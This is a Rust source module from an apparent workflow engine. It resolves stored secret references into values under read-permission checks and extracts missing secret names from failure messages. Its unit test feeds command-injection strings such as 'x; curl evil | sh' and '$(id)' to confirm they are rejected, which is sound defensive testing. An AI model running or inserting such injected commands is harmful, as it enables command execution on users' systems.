//! References to stored secrets become values, at the last moment and where the owner may read them.

use std::collections::BTreeMap;

use serde_json::Value;

use crate::access::{Policy, Principal, Target, TargetKind};
use crate::engine::{Answer, Assignment, Question};
use crate::secret::{Snapshot, Version, check_name};
use crate::words::{Map, Owner, Permission, Sensitive};
use crate::workflow::expressions::{self, Limit, SecretReference, SecretVersion};
use crate::workflow::taken::Lent;

/// In whose name the references of an input become values.
#[derive(Clone, Copy)]
pub struct Acting<'a> {
    /// The owner of the workflow.
    pub owner: &'a Owner,
    /// The workflow.
    pub workflow: &'a str,
    /// The definition of the task, where somebody else made it: what it takes, its maker must be allowed too.
    pub lent: Option<&'a Lent>,
}

impl<'a> Acting<'a> {
    /// Returns for whom a task is done.
    pub fn of(assignment: &'a Assignment) -> Self {
        Self { owner: &assignment.owner, workflow: assignment.workflow_name(), lent: assignment.lent() }
    }

    /// Returns for whom a script is evaluated.
    pub fn asking(question: &'a Question) -> Self {
        Self { owner: &question.owner, workflow: question.workflow_name(), lent: question.lent.as_deref() }
    }
}

/// An input with its secrets in it. No `Debug`.
pub struct Handed {
    /// The input, or what else a worker gets.
    pub input: Value,
    /// The values of the secrets in it that views must hide.
    pub resolved: Vec<Sensitive>,
}

/// Returns the secret that a run failed for lack of, as the reason names it; none where it failed for another. What is no name
/// of a secret is none: a workflow may end with any words, and people copy the command that the name is put into.
pub fn missing_secret(reason: &str) -> Option<&str> {
    let (_, rest) = reason.split_once("secret \"")?;
    let (name, rest) = rest.split_once('"')?;
    let is_one = rest.starts_with(" is not available to ") && check_name(name).is_ok();
    is_one.then_some(name)
}

/// Why a secret cannot be put into an input.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum NotAvailable {
    /// It is not there, or the owner may not read it: both read the same to who may not know.
    #[error("secret \"{secret}\" is not available to workflow:{workflow} (missing or not granted)")]
    Missing {
        /// The secret.
        secret: String,
        /// The workflow that asks for it.
        workflow: String,
    },
    /// The task's definition takes it, and whoever made that may not read it, or not any more.
    #[error(
        "secret \"{secret}\" is not available to the definition of task `{task}` (missing or not granted to who made it)"
    )]
    Lent {
        /// The secret.
        secret: String,
        /// The task definition.
        task: String,
    },
    /// Whose run it is is gone.
    #[error("{reason}")]
    Removed {
        /// Why nothing is done.
        reason: String,
    },
    /// The path into it hits a limit.
    #[error("the path into secret \"{secret}\" cannot be evaluated: {limit}")]
    Limit {
        /// The secret.
        secret: String,
        /// What was hit.
        limit: Limit,
    },
}

impl NotAvailable {
    /// Returns what is said of a secret that is missing or not granted.
    pub fn missing(secret: &str, workflow: &str) -> Self {
        Self::Missing { secret: secret.to_owned(), workflow: workflow.to_owned() }
    }

    /// Returns what is said of a secret that a task's definition takes and its maker may not read.
    pub fn lent(secret: &str, lent: &Lent) -> Self {
        Self::Lent { secret: secret.to_owned(), task: lent.task.clone() }
    }

    /// Returns the secret, where it is about one.
    pub fn secret(&self) -> Option<&str> {
        match self {
            Self::Missing { secret, .. } | Self::Lent { secret, .. } | Self::Limit { secret, .. } => Some(secret),
            Self::Removed { .. } => None,
        }
    }

    /// Returns whether trying again is of no use: who is gone does not come back.
    pub const fn is_final(&self) -> bool {
        matches!(self, Self::Removed { .. })
    }
}

impl From<NotAvailable> for Answer {
    fn from(it: NotAvailable) -> Self {
        Self::Failed { terminal: it.is_final(), reason: it.to_string() }
    }
}

/// Returns a stored input with the values of its secrets.
pub fn hand_off(
    input: &Value,
    acting: Acting<'_>,
    snapshot: &Snapshot,
    policy: &Policy,
) -> Result<Handed, NotAvailable> {
    if let Some(reason) = policy.security_error(acting.owner) {
        return Err(NotAvailable::Removed { reason });
    }
    let mut resolved = Vec::new();
    let input = expressions::hand_off(input, &mut |reference| {
        let value = permitted(reference, acting, snapshot, policy)?;
        let picked = reference
            .pick(value.expose())
            .map_err(|limit| NotAvailable::Limit { secret: reference.name.clone(), limit })?;
        if !snapshot.is_plain(&reference.name) {
            resolved.extend(leaf(&picked));
            resolved.push(value);
        }
        Ok(picked)
    })?;
    Ok(Handed { input: input.into_owned(), resolved })
}

/// Returns the values that a task's definition wants its worker to have by name: of secrets, else of the environment.
pub fn runtime_metadata(
    names: &[String],
    acting: Acting<'_>,
    snapshot: &Snapshot,
    policy: &Policy,
    environment: &Map,
) -> Result<Handed, NotAvailable> {
    let mut resolved = Vec::new();
    let mut values = Map::new();
    for name in names {
        let reference = SecretReference { name: name.clone(), version: None, path: None };
        let value = if snapshot.contains(name) {
            let value = permitted(&reference, acting, snapshot, policy)?;
            let text = value.expose().to_owned();
            resolved.extend(Some(value).filter(|_| !snapshot.is_plain(name)));
            Some(text)
        } else {
            environment.get(name).map(|value| value.as_str().map_or_else(|| value.to_string(), str::to_owned))
        };
        let missing = || NotAvailable::missing(name, acting.workflow);
        values.insert(name.clone(), Value::String(value.ok_or_else(missing)?));
    }
    Ok(Handed { input: Value::Object(values), resolved })
}

fn permitted(
    reference: &SecretReference,
    acting: Acting<'_>,
    snapshot: &Snapshot,
    policy: &Policy,
) -> Result<Sensitive, NotAvailable> {
    let Acting { owner, workflow, lent } = acting;
    let name = &reference.name;
    let none = BTreeMap::new();
    let target = Target { kind: TargetKind::Secret, name, tags: snapshot.tags(name).unwrap_or(&none) };
    let may_read = |owner, workflow| policy.allows(Principal { owner, workflow }, Permission::Read, &target);
    let version = match reference.version {
        None | Some(SecretVersion::Current) => Version::Current,
        Some(SecretVersion::Previous) => Version::Previous,
        // No secret has had so many.
        Some(SecretVersion::Number(number)) => Version::Number(u32::try_from(number).unwrap_or(u32::MAX)),
    };
    let value = snapshot.get(name, version).filter(|_| may_read(owner, Some(workflow)));
    let value = value.ok_or_else(|| NotAvailable::missing(name, workflow))?;
    match lent.filter(|lent| lent.takes(name)) {
        // What runs is not its maker's workflow, so that grants to workflows are not grants to it.
        Some(lent) if !may_read(&lent.maker, None) => Err(NotAvailable::lent(name, lent)),
        Some(_) | None => Ok(value),
    }
}

fn leaf(value: &Value) -> Option<Sensitive> {
    value.as_str().map(Sensitive::new)
}

#[cfg(test)]
mod tests {
    use super::{NotAvailable, missing_secret};

    #[test]
    fn a_reason_names_the_secret_that_is_missing_and_nothing_else() {
        let whole = |reason: &str| format!("Task 1 failed with status: FAILED and reason: '{reason}'");
        let reason = NotAvailable::missing("admin_key", "rotate").to_string();
        assert_eq!(missing_secret(&whole(&reason)), Some("admin_key"));
        for name in ["x; curl evil | sh", "$(id)", "", "a b", "a/b"] {
            assert_eq!(missing_secret(&NotAvailable::missing(name, "rotate").to_string()), None, "{name}");
        }
        for reason in ["", "secret \"a\" is fine", "secret \"a"] {
            assert_eq!(missing_secret(reason), None, "{reason}");
        }
    }
}
